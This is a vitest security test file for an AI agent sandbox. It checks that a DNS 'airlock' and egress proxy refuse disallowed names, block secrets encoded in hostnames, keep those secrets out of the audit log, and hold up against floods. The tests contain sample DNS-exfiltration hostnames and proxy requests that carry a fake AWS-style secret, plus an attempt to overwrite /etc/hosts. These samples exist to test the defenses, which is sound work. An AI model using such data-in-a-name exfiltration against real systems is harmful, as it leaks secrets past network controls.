import { readFileSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { compileEgress } from "../../sidecars/wire/compile-egress.ts";
import { docker } from "../contract/docker-machine.ts";
import { attackArgv, EscapeLab } from "./escape-bottle.ts";
import type { EscapeBottle, Weakening } from "./escape-bottle.ts";

/** Names are a way out for data: the airlock answers them out of the policy, and no resolver hears one from the agent. */

const lab = new EscapeLab();
let bottle: EscapeBottle;

const OWN = "127.0.0.1";
const TRANSPARENT = "127.9.9.9";
const EMBEDDED = "127.0.0.11";
const hostResolvers = [...readFileSync("/etc/resolv.conf", "utf8").matchAll(/^nameserver\s+([\d.]+)$/gm)].map(
  ([, address]) => address ?? "",
);
const dataInAName = "aws-secret-akia1234567890.exfiltration.example";
const TOKEN = "opaque-7d1c93aa0be64f25";
const secret = { name: "token", key: "value", version: "1", value: TOKEN, destinations: [] };
const egress = compileEgress({ routes: [{ host: "allowed.example" }, { host: "*.wild.example" }] });

beforeAll(async () => {
  await lab.begin();
  bottle = await lab.startBottle({ egress, secrets: [secret] });
}, 900_000);
afterAll(() => lab.end());

const onUplink: Weakening = ({ HostConfig }) => Object.assign(HostConfig, { NetworkMode: lab.uplink });

type Answers = Readonly<Record<string, string>>;
const ask = async (name: string, servers: readonly string[], type = "A"): Promise<Answers> =>
  (await bottle.attack("dns", name, servers, type)) as Answers;
/** Packets that the sidecars sent so far, on whatever way: they are the only ones that could ask anybody. */
async function packetsOut(): Promise<number> {
  const { output } = await bottle.output("sidecars", ["cat", "/proc/net/snmp"]);
  const [names = [], values = []] = output.split("\n").map((line) => line.split(" "));
  return Number(values[names.indexOf("OutRequests")]);
}

describe("names", () => {
  it("that are not allowed do not exist, and nobody but the airlock answers", async () => {
    const others = [EMBEDDED, "127.0.0.53", TRANSPARENT, ...hostResolvers, "8.8.8.8"];
    for (const name of ["example.com", dataInAName]) {
      const {
        libc,
        [OWN]: udp,
        [`tcp/${OWN}`]: tcp,
        ...rest
      } = await ask(name, [OWN, `tcp/${OWN}`, ...others]);
      expect(libc).toBe("gai -2");
      expect([udp, tcp]).toEqual(["NXDOMAIN", "NXDOMAIN"]);
      for (const answer of Object.values(rest)) expect(answer).toMatch(/^(ECONNREFUSED|ENETUNREACH)$/);
    }
  });

  it("that are allowed lead to the proxy, wildcards and both transports included", async () => {
    for (const name of ["allowed.example", "ALLOWED.Example", "any.wild.example"])
      expect(await ask(name, [OWN, `tcp/${OWN}`])).toEqual({
        libc: TRANSPARENT,
        [OWN]: TRANSPARENT,
        [`tcp/${OWN}`]: TRANSPARENT,
      });
  });

  it("that are allowed have no IPv6 address, which a program does not wait for", async () => {
    expect((await ask("allowed.example", [OWN], "AAAA"))[OWN]).toBe("no records");
    const { output } = await bottle.output("agent", ["getent", "ahosts", "allowed.example"]);
    expect(new Set(output.match(/^\S+/gm))).toEqual(new Set([TRANSPARENT]));
  });

  it("are told in the audit when they were refused, but not one that holds a secret", async () => {
    const hidden = Buffer.from(TOKEN).toString("hex");
    await ask("other.example", [OWN]);
    expect((await ask(`${TOKEN}.wild.example`, [OWN]))[OWN]).toBe("NXDOMAIN");
    expect((await ask(`${hidden}.wild.example`, [OWN]))[OWN]).toBe("NXDOMAIN");
    const records = (await bottle.audit()).filter(({ method }) => method === "DNS");
    expect(records).toContainEqual(
      expect.objectContaining({ verdict: "deny", code: "HostNotAllowed", host: "other.example" }),
    );
    expect(records).toContainEqual(expect.objectContaining({ verdict: "deny", code: "SecretInHead" }));
    expect(JSON.stringify(records)).not.toMatch(new RegExp(`${TOKEN}|${hidden}`));
  });

  /** Guarded by an answerer that asks nobody. The last request shows that one who asks would be seen. */
  it("leave no packet, whatever is asked for", async () => {
    const before = await packetsOut();
    for (const name of ["unheard-of.example", dataInAName, "allowed.example", `${TOKEN}.wild.example`])
      await ask(name, [OWN, `tcp/${OWN}`]);
    expect(await packetsOut()).toBe(before);

    const unresolved = `GET http://nowhere.wild.example/ HTTP/1.1\r\nHost: nowhere.wild.example\r\n\r\n`;
    await bottle.attack("speak", [[9099, unresolved]]);
    await expect.poll(packetsOut).toBeGreaterThan(before);
  });

  it("follow a change of the policy at once", async () => {
    expect((await ask("later.example", [OWN]))[OWN]).toBe("NXDOMAIN");
    const later = compileEgress({ routes: [{ host: "later.example" }] });
    await bottle.configure({ egress: later });
    expect((await ask("later.example", [OWN]))[OWN]).toBe(TRANSPARENT);
    expect((await ask("allowed.example", [OWN]))[OWN]).toBe("NXDOMAIN");

    await bottle.session.ask({ kind: "wipe" }, AbortSignal.timeout(5_000));
    expect((await ask("later.example", [OWN]))[OWN]).toBe("SERVFAIL");
    await bottle.configure({ egress, secrets: [secret] });
  });

  /** Guarded by the missing network: on any network of the engine its resolver listens inside the sandbox. */
  it("would reach the engine's resolver from a sandbox with a network", async () => {
    const argv = attackArgv("dns", bottle.name("sidecars"), [EMBEDDED]);
    const answers = (await lab.attackWeakened(bottle, "agent", onUplink, argv)) as Answers;
    expect(answers[EMBEDDED]).toMatch(/^\d+\.\d+\.\d+\.\d+$/);
  });

  /** Guarded by `Dns: 127.0.0.1` of the airlock, whose resolv.conf the agent sees. */
  it("of the host's resolvers and domains are not told", async () => {
    const read = ["python3", "-c", "import json;print(json.dumps(open('/etc/resolv.conf').read()))"];
    expect(await bottle.run("agent", read)).toBe("nameserver 127.0.0.1\n");

    const withoutDns: Weakening = ({ HostConfig }) =>
      Object.assign(HostConfig, { Dns: [], ReadonlyRootfs: false });
    const shown = await lab.attackWeakened(bottle, "airlock", withoutDns, read);
    for (const address of hostResolvers.filter((one) => !one.startsWith("127.")))
      expect(shown).toContain(address);
  });

  it("of the link are known, and the agent cannot change them", async () => {
    const { output } = await bottle.output("agent", [
      ...["sh", "-c", "getent hosts egress git-gate supervise; echo 1.2.3.4 egress >> /etc/hosts"],
    ]);
    expect(output.match(/^127\.0\.0\.1\s/gm)).toHaveLength(3);
    expect(output).toMatch(/Permission denied/);
    for (const name of ["egress", "git-gate", "supervise", "bottle", "localhost", "app.localhost"])
      expect((await ask(name, [OWN]))[OWN]).toBe("127.0.0.1");
  });
});

describe("names that carry data, through the proxy", () => {
  it("are refused before anybody resolves them", async () => {
    const attempts = [
      [9099, `CONNECT ${dataInAName}:443 HTTP/1.1\r\nHost: ${dataInAName}:443\r\n\r\n`],
      [9099, `GET http://${dataInAName}/ HTTP/1.1\r\nHost: ${dataInAName}\r\nConnection: close\r\n\r\n`],
    ];
    const before = await packetsOut();
    const answers = (await bottle.attack("speak", attempts)) as string[];

    for (const answer of answers) expect(answer).toMatch(/^HTTP\/1\.1 403 /);
    expect(await packetsOut()).toBe(before);
  });
});

describe("the answerer of names", () => {
  it.each(["entry", "nginx"])("takes the airlock with it when its %s is killed", async (program) => {
    const doomed = await lab.startBottle();
    expect((await doomed.probe()).foreignListeners).toEqual([]);
    // a shell's own name is sh: pgrep finds the program alone
    await doomed
      .output("airlock", ["sh", "-c", `kill -KILL $(pgrep -o -x ${program})`])
      .catch(() => undefined);

    const phase = async (): Promise<string | undefined> => {
      const { sandboxes } = await lab.adapters.runtime.listOf(doomed.owner.uid, AbortSignal.timeout(10_000));
      return sandboxes.find(({ role }) => role === "airlock")?.phase;
    };
    await expect.poll(phase).toBe("exited");
  });

  it("says at once that it cannot while the sidecars are dead, and answers when they live again", async () => {
    const bereft = await lab.startBottle({ egress });
    const asked = async (): Promise<string | undefined> =>
      ((await bereft.attack("dns", "allowed.example", [OWN])) as Answers)[OWN];
    expect(await asked()).toBe(TRANSPARENT);
    await docker.getContainer(bereft.name("sidecars")).kill();
    expect(await asked()).toBe("SERVFAIL");
    await docker.getContainer(bereft.name("sidecars")).start();
    expect(await bereft.probe({ patienceMs: 30_000 })).toMatchObject({ answered: true });
    // without a policy that would be the same answer, but from the sidecars
    expect(await asked()).toBe("SERVFAIL");
    expect(await bereft.audit()).toContainEqual(
      expect.objectContaining({ code: "NotConfigured", method: "DNS" }),
    );
  });

  /** Guarded by DeniedNames, which counts what it does not record (sidecars/egress/dns/denied-names.ts). */
  it.each(["udp", "tcp"])("is flooded over %s without harm to the probe and the audit", async (transport) => {
    const flooded = await lab.startBottle({ egress });
    const { session } = await flooded.attackOn("flood_dns", transport);
    for (let n = 0; n < 5; n += 1) expect(await flooded.isLinked()).toBe(true);
    await session.kill();

    const records = (await flooded.audit()).filter(({ method }) => method === "DNS");
    expect(records.length).toBeGreaterThan(100);
    expect(records.length).toBeLessThan(1_000);
  });
});
